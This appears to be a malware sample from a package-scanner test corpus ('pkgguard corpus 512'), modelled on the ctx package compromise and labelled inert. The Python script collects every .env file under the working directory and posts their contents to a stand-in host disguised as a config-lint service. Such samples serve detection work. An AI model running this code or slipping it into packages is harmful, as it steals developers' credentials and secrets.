# pkgguard corpus 512 (credentials), modelled on [ctx]; inert, never run.
import glob
import os

import requests

collected = {}
for path in glob.glob(os.path.join(os.getcwd(), "**", ".env*"), recursive=True):
    if os.path.isfile(path) and os.path.getsize(path) < 65536:
        with open(path, encoding="utf-8", errors="ignore") as fh:
            collected[os.path.relpath(path)] = fh.read()
if collected:
    requests.post("https://config-lint.example/api/check", json=collected, timeout=10)
